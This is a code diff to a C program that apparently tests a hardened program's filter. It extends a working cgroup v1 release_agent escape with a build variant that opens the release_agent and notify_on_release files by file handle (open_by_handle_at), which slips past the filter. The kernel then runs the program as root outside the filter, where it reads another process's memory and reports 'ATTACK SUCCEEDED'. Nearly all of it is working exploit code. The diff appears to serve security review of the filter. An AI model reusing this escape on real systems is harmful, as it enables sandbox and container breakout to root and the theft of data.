@@ -1,7 +1,10 @@
 /* rev36-release-agent.c - a program run by execve under a hardened
  * program's filter (not our process): it names itself the release agent
  * of a cgroup v1 hierarchy it mounts, and empties a cgroup of it, so that
- * the kernel starts it again, as root and under no filter.
+ * the kernel starts it again, as root and under no filter. Built with
+ * -DBY_HANDLE (review 37), it opens every cgroup v1 file for writing by
+ * file handle (name_to_handle_at, open_by_handle_at), an open the filter
+ * let through without O_TRUNC and the supervisor never saw.
  *
  * rev36-release-agent PID ADDR: the attack. Started by the kernel (its
  * one argument the cgroup's path, "/PID-ADDR"): 31 bytes of PID's memory
@@ -21,12 +24,45 @@
 #include "helper-steps.h"
 #include "release-agent.h"
 
+#ifdef BY_HANDLE
+#define NAME "bh37"
+#define HOW " by handle"
+/* The hierarchy's root, for open_by_handle_at's mount. */
+static int top_fd = -1;
+
+static int open_for_writing(const char *path) {
+  union {
+    struct file_handle h;
+    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+  } u;
+  int mount_id;
+  u.h.handle_bytes = MAX_HANDLE_SZ;
+  return name_to_handle_at(AT_FDCWD, path, &u.h, &mount_id, 0)
+             ? -1
+             : open_by_handle_at(top_fd, &u.h, O_WRONLY);
+}
+#else
+#define NAME "bh36"
+#define HOW ""
+static int open_for_writing(const char *path) { return open(path, O_WRONLY); }
+#endif
+
 static int put(const char *path, const char *text) {
-  int fd = open(path, O_WRONLY);
+  int fd = open_for_writing(path);
   int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
   if (fd >= 0)
     close(fd);
   return ok;
+}
+
+/* The control: a plain open for writing of a kernel setting (review 36's
+ * release_agent by handle) is refused. */
+static void control(const char *path) {
+  int fd = open(path, O_WRONLY);
+  printf("helper: plain open of %s for writing: %s\n", strrchr(path, '/') + 1,
+         fd < 0 ? strerror(errno) : "opened");
+  if (fd >= 0)
+    close(fd);
 }
 
 int main(int argc, char **argv) {
@@ -36,12 +72,9 @@ int main(int argc, char **argv) {
     return 2;
   setvbuf(stdout, NULL, _IONBF, 0);
   char top[4200], dir[4300], file[4400], out[4200], buf[64] = {0};
-  /* The control: a kernel setting opened for writing is refused. */
-  int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
-  printf("helper: plain open of core_pattern for writing: %s\n",
-         fd < 0 ? strerror(errno) : "opened");
-  if (fd >= 0)
-    close(fd);
+#ifndef BY_HANDLE
+  control("/proc/sys/kernel/core_pattern");
+#endif
   /* Next to itself: the agent's file is written in the initial mount
    * namespace, where this directory is the same. */
   snprintf(top, sizeof top, "%s.cg", argv[0]);
@@ -51,13 +84,19 @@ int main(int argc, char **argv) {
       !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
             "mount private") ||
       !step(!mkdir(top, 0700), "mkdir") ||
-      !step(!mount("bh36", top, "cgroup", 0, "none,name=bh36"),
-            "mount cgroup v1") ||
-      !step(put(file, argv[0]), "write release_agent") ||
+      !step(!mount(NAME, top, "cgroup", 0, "none,name=" NAME),
+            "mount cgroup v1"))
+    return 1;
+#ifdef BY_HANDLE
+  if (!step((top_fd = open(top, O_RDONLY | O_DIRECTORY)) >= 0, "open top"))
+    return 1;
+  control(file);
+#endif
+  if (!step(put(file, argv[0]), "write release_agent" HOW) ||
       !step(!mkdir(dir, 0755), "mkdir cgroup"))
     return 1;
   snprintf(file, sizeof file, "%s/notify_on_release", dir);
-  if (!step(put(file, "1"), "write notify_on_release"))
+  if (!step(put(file, "1"), "write notify_on_release" HOW))
     return 1;
   /* A child joins the cgroup and ends: the cgroup is empty, the kernel
    * runs the release agent. */
@@ -71,7 +110,7 @@ int main(int argc, char **argv) {
     return 1;
   snprintf(out, sizeof out, "%s.out", argv[0]);
   for (int i = 0; i < 100; i++) { /* up to 10 s */
-    fd = open(out, O_RDONLY);
+    int fd = open(out, O_RDONLY);
     if (fd >= 0) {
       usleep(100000);
       if (read(fd, buf, sizeof buf - 1) < 0)
@@ -84,12 +123,15 @@ int main(int argc, char **argv) {
   /* Tidy for a host run natively: the hierarchy ends with its last
    * cgroup and mount. */
   rmdir(dir);
+#ifdef BY_HANDLE
+  close(top_fd);
+#endif
   umount(top);
   rmdir(top);
   unlink(out);
   if (!strncmp(buf, "TOP-SECRET", 10))
-    printf("ATTACK SUCCEEDED: the release agent, run by the kernel outside "
-           "the filter, read '%s'\n",
+    printf("ATTACK SUCCEEDED: the release agent, set" HOW
+           " and run by the kernel outside the filter, read '%s'\n",
            buf);
   else
     printf("helper: the agent's output: '%s'\n", buf);
